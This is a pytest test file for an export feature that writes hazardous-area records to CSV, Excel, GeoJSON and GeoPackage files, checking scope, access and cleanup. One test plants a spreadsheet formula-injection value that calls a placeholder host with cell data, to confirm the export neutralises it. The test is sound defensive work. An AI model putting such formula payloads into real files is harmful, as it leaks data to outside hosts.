"""Exports hold what the list shows, of one moment, for the one who asked; and open anywhere."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pyogrio
import pytest

from datlanh.accounts.acting import SYSTEM, acting
from datlanh.accounts.models import Grant
from datlanh.audit.models import Event
from datlanh.exchange.models import Export
from datlanh.exchange.selectors import export_get, exports_of
from datlanh.exchange.services import (
    AT_ONCE,
    KEPT_DAYS,
    export_ask,
    export_make,
    export_path,
    exports_clear,
)
from datlanh.exchange.tables import TABLES
from datlanh.exchange.writers import WRITERS
from datlanh.hazards.models import HazardousArea
from datlanh.intake.selectors.labels import mapping_now
from datlanh.kernel import clock
from datlanh.kernel.errors import DomainError
from datlanh.register.selectors import decision_newest
from support.kinds import FILES, MAKERS
from support.reports import approved, cha, demo_cast, let_through, received, release, verified

RENEW, MAG = "HAZ-409-600001", "HAZ-409-500002"


@pytest.fixture
def cast(fresh_db):
    cast = demo_cast()
    for draft, field, officer in (
        (cha(1), "renew.hientruong", "renew"),
        (cha(2, organisation="mag", first=500000), "mag.hientruong", "mag"),
        (release(1), "renew.hientruong", "renew"),
    ):
        approved(verified(received(draft, by=cast[field]), by=cast[officer]), by=cast["kiemtra2"])
    return cast


def made(who, table="areas", format="csv", query="", language="vi"):
    with acting(who):
        export = export_ask(table=table, format=format, query=query, by=who, language=language)
    export_make(export_id=str(export.pk))
    export.refresh_from_db()
    return export


def lines(export):
    with zipfile.ZipFile(export_path(export)) as archive:
        text = archive.read("data.csv").decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("format", WRITERS)
def test_every_kind_of_file_holds_the_records_in_scope(cast, format):
    own, every = made(cast["renew"], format=format), made(cast["kiemtra2"], format=format)
    assert (own.state, own.total, every.total) == ("ready", 1, 2)
    assert own.known == decision_newest()
    assert read(own) == [RENEW]
    assert read(every) == [MAG, RENEW]


def read(export: Export) -> list[str]:
    """The ids in a file, read by somebody else's program."""
    path = export_path(export)
    if export.format == "csv":
        return [row["id"] for row in lines(export)]
    if export.format == "xlsx":
        sheet = openpyxl.load_workbook(path).worksheets[0]
        return [row[0].value for row in list(sheet.rows)[1:]]
    if export.format == "geojson":
        return [f["id"] for f in json.loads(path.read_text())["features"]]
    _meta, _index, shapes, fields = pyogrio.raw.read(path, layer="Khu vực ô nhiễm")
    assert all(shapes)
    return list(fields[0])


def test_a_file_says_what_it_is_of_and_what_its_columns_are(cast):
    export = made(cast["kiemtra2"], query="status=open&organisation=mag")
    assert [row["id"] for row in lines(export)] == [MAG]
    (row,) = lines(export)
    area = HazardousArea.objects.get(local_id=MAG)
    assert float(row["measured_m2"]) == pytest.approx(area.area_m2, abs=0.1)
    assert row["public_status"] == "open"
    assert row["information_date"] == area.true_from.isoformat()
    with zipfile.ZipFile(export_path(export)) as archive:
        about = archive.read("about.txt").decode()
        columns = archive.read("columns.csv").decode("utf-8-sig")
    assert f"quyết định: {export.known} (" in about
    assert "status=open" in about
    assert "không có nghĩa là an toàn" in about
    described = {r["column"]: r for r in csv.DictReader(io.StringIO(columns))}
    assert set(described) == set(row)
    assert "open = Mở / Open" in described["public_status"]["options"]
    assert export.sha256
    actions = list(Event.objects.filter(action__startswith="export.").values_list("action"))
    assert actions == [("export.ask",), ("export.made",)]


def test_a_workbook_speaks_in_words_and_another_layer_tells_the_columns(cast):
    book = openpyxl.load_workbook(export_path(made(cast["renew"], format="xlsx", language="en")))
    heads, row = list(book.worksheets[0].iter_rows(values_only=True))
    said = dict(zip(heads, row, strict=True))
    assert said["Status"] == "Open"
    assert isinstance(said["Newest information of"], dt.datetime)
    assert book.sheetnames[1:] == ["Columns", "About"]
    path = export_path(made(cast["renew"], format="gpkg", language="en"))
    assert {name for name, _kind in pyogrio.list_layers(path)} == {
        "Hazardous areas",
        "columns",
        "about",
    }


def test_what_could_be_a_formula_is_marked_in_csv_and_text_in_a_workbook(cast):
    evil = '=HYPERLINK("http://x/?"&A1)'
    draft = cha(3, village=evil)
    report = verified(received(draft, by=cast["renew.hientruong"]), by=cast["renew"])
    approved(let_through(report), by=cast["kiemtra2"])
    found = {row["id"]: row for row in lines(made(cast["renew"]))}
    assert found["HAZ-409-600003"]["village_name"] == "'" + evil
    path = export_path(made(cast["renew"], format="xlsx"))
    cells = [c for row in openpyxl.load_workbook(path).worksheets[0].rows for c in row]
    assert [c.data_type for c in cells if c.value == evil] == ["s"]


def test_the_past_is_exported_as_it_was_known(cast):
    before = decision_newest()
    draft = cha(4)
    report = verified(received(draft, by=cast["renew.hientruong"]), by=cast["renew"])
    approved(report, by=cast["kiemtra2"])
    assert read(made(cast["renew"])) == [RENEW, "HAZ-409-600004"]
    then = made(cast["renew"], query=f"known={before}")
    assert (read(then), then.known) == ([RENEW], before)


@pytest.mark.parametrize("kind", MAKERS)
def test_every_kind_of_record_has_its_file_and_no_person_in_it(cast, kind):
    report = received(MAKERS[kind](), by=cast["renew.hientruong"], files=FILES.get(kind))
    report = let_through(verified(report, by=cast["renew"]))
    approved(report, by=cast["kiemtra2"])
    (table,) = [t for t in TABLES.values() if t.listing and t.listing.kind == kind]
    (row,) = lines(made(cast["kiemtra2"], table.key))
    assert row["id"] == report.record_local_id
    mapping = mapping_now(table.form)
    sealed = {q.attribute for q in mapping.questions if q.is_sealed}
    assert not sealed & set(row)


def test_a_file_belongs_to_who_asked_and_only_so_many_wait(cast):
    export = made(cast["renew"])
    assert export_get(cast["renew"], export.pk) == export
    assert not exports_of(cast["kiemtra2"])
    with pytest.raises(Export.DoesNotExist):
        export_get(cast["kiemtra2"], export.pk)
    with acting(cast["mag"]):
        more = {"table": "areas", "format": "csv", "query": "", "language": "vi"}
        for _ in range(AT_ONCE):
            export_ask(**more, by=cast["mag"])
        with pytest.raises(DomainError, match="5 files"):
            export_ask(**more, by=cast["mag"])
        for wrong in ({"table": "users"}, {"format": "exe"}):
            with pytest.raises(DomainError, match="no such file"):
                export_ask(**(more | wrong), by=cast["renew"])


def test_whoever_lost_the_right_meanwhile_gets_nothing(cast):
    who = cast["renew"]
    with acting(who):
        export = export_ask(table="areas", format="csv", query="", by=who, language="vi")
    Grant.objects.filter(user=who).update(ended_at=clock.now())
    with pytest.raises(DomainError):
        export_make(export_id=str(export.pk))
    export.refresh_from_db()
    assert export.state == "failed"
    assert not export_path(export).exists()


def test_old_files_go_and_lost_ones_are_given_up(cast):
    old = made(cast["renew"])
    with acting(cast["renew"]):
        lost = export_ask(table="areas", format="csv", query="", by=cast["renew"], language="vi")
    with clock.frozen(clock.now() + dt.timedelta(days=KEPT_DAYS, hours=1)):
        assert exports_clear() == 2
    old.refresh_from_db()
    lost.refresh_from_db()
    assert (old.state, lost.state) == ("gone", "failed")
    assert not export_path(old).exists()
    with acting(SYSTEM):
        export_make(export_id=str(lost.pk))  # its job comes at last: nothing happens
    lost.refresh_from_db()
    assert lost.state == "failed"


def test_ogr_reads_the_geopackage(cast):
    path = export_path(made(cast["kiemtra2"], format="gpkg", language="en"))
    code = (
        "import sys, pyogrio; i = pyogrio.read_info(sys.argv[1], layer='Hazardous areas'); "
        "print(i['crs'], i['features'])"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=True
    )
    assert done.stdout.split() == ["EPSG:4326", "2"]
    assert Path(path).read_bytes()[:15] == b"SQLite format 3"
